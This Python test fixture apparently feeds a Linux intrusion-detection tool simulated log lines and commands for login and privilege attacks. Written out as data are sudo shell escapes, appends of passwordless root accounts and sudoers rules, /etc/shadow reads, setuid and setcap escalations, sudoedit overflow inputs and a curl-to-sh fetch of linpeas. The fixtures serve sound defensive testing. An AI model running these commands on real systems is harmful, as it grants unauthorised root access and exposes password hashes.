"""Attacks on logins, accounts and rights, as their authors do them: several ways for each family of rules."""

from tests.doubles.attack_steps import WEB, Step, record, said, shell, steps, typed, wrote
from tests.doubles.host_story import Story


def _failed(user: str, address: str, *, invalid: bool = False, times: int = 1, every: float = 1.0) -> Step:
    known = "invalid user " if invalid else ""
    return said(
        "sshd[4711]", f"Failed password for {known}{user} from {address} port 40100 ssh2", times=times, every=every
    )


def _accepted(user: str, address: str, method: str = "password") -> Step:
    return said("sshd-session[4799]", f"Accepted {method} for {user} from {address} port 50200 ssh2")


def _exploit(path: str) -> Step:
    """A program of a user whose child is a shell of root."""

    def play(story: Story) -> None:
        pid = story.run(path, user="bob")
        story.run(["-sh"], parent=pid, called="/bin/sh")

    return play


_NAMES = ("test", "oracle", "guest", "pi", "ftp", "adm1n", "ubnt", "user", "git", "jenkins", "hadoop", "minecraft")
_SAD = "type=MAC_IPSEC_EVENT @ op=SAD-add auid=1000 ses=2 subj=unconfined src={} dst={} spi=256(0x100) res=1"
_ROOT_RULE = "bob ALL=(ALL:ALL) NOPASSWD: ALL"

LOGIN_ATTACKS: dict[str, tuple[Step, ...]] = {
    "SSH brute force, fast": (
        _failed("root", "203.0.113.9", times=9),
        _failed("admin", "2001:db8::9", invalid=True, times=12, every=5),
        said("sshd[9]", "message repeated 9 times: [ Failed password for root from 203.0.113.9 port 40022 ssh2]"),
        said("sshd-session[9]", "Failed keyboard-interactive/pam for root from 203.0.113.9 port 40022 ssh2", times=8),
    ),
    "SSH brute force, slow": (
        _failed("root", "203.0.113.9", times=24, every=600),
        _failed("backup", "198.51.100.23", invalid=True, times=21, every=300),
    ),
    "SSH brute force, distributed": (
        steps(*(_failed("deploy", f"203.0.113.{n}") for n in range(10, 22)), every=60),
        steps(*(_failed("root", f"198.51.100.{n}", times=2) for n in range(40, 52)), every=90),
    ),
    "SSH invalid users": (
        steps(*(_failed(name, "203.0.113.9", invalid=True) for name in _NAMES), every=1500),
        steps(
            *(said("sshd[9]", f"Invalid user {name} from 203.0.113.9 port 40022") for name in (*_NAMES, "")), every=900
        ),
    ),
    "SSH user enumeration": (
        steps(*(_failed(name, "203.0.113.9", invalid=True) for name in _NAMES), every=10),
        steps(
            *(said("sshd[9]", f"Connection closed by invalid user {n} 203.0.113.9 port 4022 [preauth]") for n in _NAMES)
        ),
    ),
    "password spraying": (
        steps(*(_failed(name, "203.0.113.9") for name in ("alice", "bob", "carol", "dave", "erin")), every=300),
        steps(*(_failed(name, "10.0.0.77", times=2) for name in ("root", "deploy", "git", "backup", "alice", "bob"))),
    ),
    "success after failures": (
        steps(_failed("deploy", "203.0.113.9", times=6), _accepted("deploy", "203.0.113.9")),
        steps(
            *(_failed("deploy", f"203.0.113.{n}") for n in range(10, 17)), _accepted("deploy", "198.51.100.4"), every=60
        ),
        steps(
            _failed("a", "2001:db8::9", invalid=True, times=7),
            _accepted("root", "2001:db8::9", "keyboard-interactive/pam"),
        ),
    ),
    "root login": (
        _accepted("root", "203.0.113.9"),
        _accepted("root", "203.0.113.9", "publickey"),
        said("login[77]", "ROOT LOGIN  on '/dev/tty1'"),
        said("sshd[9]", "Accepted keyboard-interactive/pam for root from 2001:db8::9 port 1 ssh2"),
    ),
    "sudo failures": (
        said(
            "sudo", "bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh", times=3
        ),
        said("sudo[9]", "bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"),
        said("sudo[9]", "bob : command not allowed ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"),
    ),
    "unusual sudo": (
        *(
            said("sudo[9]", f"bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND={command}")
            for command in (
                "/usr/bin/vim -c :!/bin/bash",
                "/usr/bin/vi -c :set shell=/bin/sh -c :shell",
                "/usr/bin/find / -exec /usr/bin/bash -p ; -quit",
                "/usr/bin/find . -maxdepth 0 -exec sh -i ;",
                '/usr/bin/awk BEGIN {system("/bin/sh")}',
                '/usr/bin/gawk BEGIN {system("bash")}',
                "/usr/bin/tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
                "/usr/bin/tar xf /dev/null -I /bin/sh --checkpoint-action exec=/bin/sh",
                '/usr/bin/perl -e exec "/bin/sh";',
                "/usr/bin/python3 -c import pty;pty.spawn('/bin/bash')",
                "/usr/bin/ruby -e exec '/bin/sh'",
                "/usr/bin/env sh",
                "/usr/bin/nice /bin/sh",
                "/usr/bin/rsync -e sh -c sh 0<&2 1>&2 127.0.0.1:/dev/null",
                "/usr/bin/zip /tmp/x.zip /etc/hosts -T -TT sh #",
                "/usr/bin/ssh -o ProxyCommand=;sh 0<&2 1>&2 x",
                "/usr/bin/git -p help config !/bin/sh",
                "/usr/bin/cp /tmp/p /etc/passwd",
                "/usr/bin/tee -a /etc/sudoers",
                "/usr/bin/php -r system('/bin/sh');",
                "/usr/bin/expect -c spawn /bin/sh",
            )
        ),
        said("sudo[9]", "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh"),
        said("sudo[9]", "bob : TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/bin/bash"),
    ),
    "su to root": (
        said("su[9]", "FAILED SU (to root) bob on pts/0", times=3, every=20),
        said("su[9]", "(to root) bob on pts/0"),
        said("su", "Successful su for root by www-data"),
        said("su-l[9]", "(to root) bob on pts/1"),
    ),
    "new user": (
        said("useradd[9]", "new user: name=eve, UID=1005, GID=1005, home=/home/eve, shell=/bin/bash, from=/dev/pts/0"),
        said("useradd", "new user: name=sysd, UID=1017, GID=100, home=/tmp, shell=/bin/sh"),
    ),
    "user id 0": (
        said("useradd[9]", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"),
        said("usermod[9]", "change user 'bob' UID from '1001' to '0'"),
        typed("useradd -ou0 -g0 toor"),
        typed("/usr/sbin/usermod -o -u 0 bob", called="/usr/sbin/usermod"),
        typed("busybox adduser -u 0 toor"),
        typed("useradd --non-unique --uid 0 toor"),
    ),
    "sudo group changed": (
        said("usermod[9]", "add 'eve' to group 'sudo'"),
        said("gpasswd[9]", "user eve added by root to group docker"),
        said("usermod[9]", "add 'eve' to shadow group 'wheel'"),
    ),
    "accounts changed past their tools": (
        wrote("/etc/passwd", by="/usr/bin/python3.11"),
        wrote("/etc/sudoers.d/x", by="/usr/bin/vim.basic"),
        wrote("/etc/shadow", by="/tmp/dpkg", title="dpkg"),
        wrote("/etc/shadow", by="/usr/bin/sed", old="/etc/sedabc"),
        shell("echo 'toor::0:0::/root:/bin/bash'>>/etc/passwd"),
        shell(f"echo '{_ROOT_RULE}' | sudo tee -a /etc/sudoers", name="bash"),
        shell(f'printf "%s\\n" "{_ROOT_RULE}" >"/etc/sudoers.d/x"'),
        typed(["sed", "-i", "s,^root:x:,root::,", "/etc/passwd"]),
        typed(["perl", "-pi", "-e", "s/root:x/root:/", "/etc/passwd"]),
        said("chpasswd[9]", "pam_unix(chpasswd:chauthtok): password changed for root"),
    ),
    "shadow read": (
        typed("cat /etc/shadow"),
        typed("/bin/busybox cat /etc/shadow", called="/bin/busybox"),
        typed("sort /etc/shadow"),
        typed("awk -F: {print} /etc/shadow"),
        typed("grep root /etc/shadow"),
        typed("unshadow /etc/passwd /etc/shadow"),
        typed("cp /etc/shadow /tmp/.s", cwd="/tmp"),
        typed("diff /etc/shadow /dev/null"),
        typed("tail -n+1 /etc/gshadow- /etc/shadow-"),
        typed(["python3", "-c", "print(open('/etc/shadow').read())"]),
        shell("while read l; do echo $l; done < /etc/shadow", name="bash"),
        typed("cut -d: -f2 ../../etc/shadow"),
    ),
    "setuid": (
        typed("chmod u+s /tmp/bash"),
        typed("chmod 04755 /var/tmp/.b"),
        typed("/usr/bin/chmod --verbose 6755 /usr/bin/find"),
        typed("chmod a+rx,u=rwxs /tmp/x"),
        typed("busybox chmod 4777 /tmp/sh"),
        typed("install -o root -m 4755 /bin/bash /usr/local/bin/b"),
        typed("install --mode=u+s /bin/sh /tmp/s"),
        typed("/tmp/b -p", user="bob", root=True, exe="/tmp/bash"),
        typed(["sh", "-p"], user="www-data", session=False, root=True, called="/bin/sh"),
        typed("cp --preserve=mode /usr/bin/su /tmp/x", "chmod ug+s /tmp/x"),
    ),
    "capabilities": (
        typed("setcap cap_setuid+ep /usr/bin/python3.11", called="/usr/sbin/setcap"),
        typed("/sbin/setcap CAP_SETUID,CAP_SETGID=eip /home/bob/perl"),
        typed("setcap cap_dac_read_search=+ep /bin/tar", called="/usr/sbin/setcap"),
        typed("setcap -n 0 all+ep /tmp/x", called="/usr/sbin/setcap"),
        typed(["setcap", "=ep", "/tmp/x"], called="/usr/sbin/setcap"),
    ),
    "privilege escalation": (
        _exploit("/home/bob/exp"),
        _exploit("/dev/shm/.d"),
        record(_SAD.format("127.0.0.1", "127.0.0.1")),
        record(_SAD.format("::1", "::1")),
        said(
            "pkexec[9]",
            "bob: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=x]",
        ),
        said(
            "pkexec[9]",
            "bob: The value for environment variable XAUTHORITY contains suscipious content [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=x]",
        ),
        typed(["sudoedit", "-s", "\\", "A" * 40], user="bob", root=True),
        typed(["sudoedit", "-As", "AAAA\\", "B"], user="bob", root=True),
        typed("bash linpeas.sh", user="bob"),
        typed("./linpeas_linux_amd64", **WEB, called="/tmp/linpeas_linux_amd64"),
        typed("/tmp/pspy64", user="bob"),
        shell("curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh | sh", user="bob"),
    ),
}
